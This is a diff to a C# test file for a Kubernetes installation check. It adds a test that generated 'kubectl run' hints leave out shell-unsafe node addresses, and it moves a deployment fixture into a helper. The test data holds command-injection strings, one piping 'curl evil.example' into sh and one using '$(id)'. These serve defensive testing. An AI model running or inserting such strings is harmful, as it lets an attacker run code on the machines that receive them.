@@ -95,6 +95,29 @@ public class InstallationCheckTests
         result.Hint.Should().Contain("--node-address-type");
     }
 
+    [Theory]
+    [InlineData("10.0.0.1", "http://10.0.0.1:NODE_PORT/")]
+    [InlineData("x/;curl evil.example|sh;#", "http://NODE_ADDRESS:NODE_PORT/")]
+    [InlineData("$(id)", "http://NODE_ADDRESS:NODE_PORT/")]
+    public void Command_of_a_hint_contains_no_text_of_a_tenant_that_a_shell_runs(string address, string expected)
+    {
+        var tenant = new FakeObjects(
+            new V1Node
+            {
+                Metadata = new V1ObjectMeta { Name = "n" },
+                Status = new V1NodeStatus { Addresses = [new V1NodeAddress { Type = "Hostname", Address = address }] },
+            },
+            Ccm("--node-address-type=Hostname")
+        );
+        var settings = new CheckSettings { HasTenant = true };
+        new InstallationCheck(tenant, new FakeObjects(), settings, Now)
+            .Run()
+            .Should()
+            .ContainSingle(r => r.Hint != null && r.Hint.Contains("kubectl run", StringComparison.Ordinal))
+            .Which.Hint.Should()
+            .EndWith(expected);
+    }
+
     [Fact]
     public void Nodes_are_checked_with_the_flags_of_the_CCM()
     {
@@ -104,31 +127,7 @@ public class InstallationCheckTests
                 Metadata = new V1ObjectMeta { Name = "n" },
                 Status = new V1NodeStatus { Addresses = [new V1NodeAddress { Type = "InternalIP", Address = "10.0.0.1" }] },
             },
-            new V1Deployment
-            {
-                Metadata = new V1ObjectMeta
-                {
-                    Name = "ccm",
-                    NamespaceProperty = "lb",
-                    Labels = new Dictionary<string, string> { ["app.kubernetes.io/name"] = "kubelb-ccm" },
-                },
-                Spec = new V1DeploymentSpec
-                {
-                    Template = new V1PodTemplateSpec
-                    {
-                        Spec = new V1PodSpec
-                        {
-                            Containers =
-                            [
-                                new V1Container
-                                {
-                                    Args = ["--cluster-name=shop", "--enable-gateway-api", "--node-address-type=InternalIP"],
-                                },
-                            ],
-                        },
-                    },
-                },
-            }
+            Ccm("--node-address-type=InternalIP")
         );
 
         var results = Results(null);
@@ -231,6 +230,27 @@ public class InstallationCheckTests
                 {
                     ["gateway.networking.k8s.io/bundle-version"] = "v1.6.1",
                     ["gateway.networking.k8s.io/channel"] = "experimental",
+                },
+            },
+        };
+
+    private static V1Deployment Ccm(string flag) =>
+        new()
+        {
+            Metadata = new V1ObjectMeta
+            {
+                Name = "ccm",
+                NamespaceProperty = "lb",
+                Labels = new Dictionary<string, string> { ["app.kubernetes.io/name"] = "kubelb-ccm" },
+            },
+            Spec = new V1DeploymentSpec
+            {
+                Template = new V1PodTemplateSpec
+                {
+                    Spec = new V1PodSpec
+                    {
+                        Containers = [new V1Container { Args = ["--cluster-name=shop", "--enable-gateway-api", flag] }],
+                    },
                 },
             },
         };
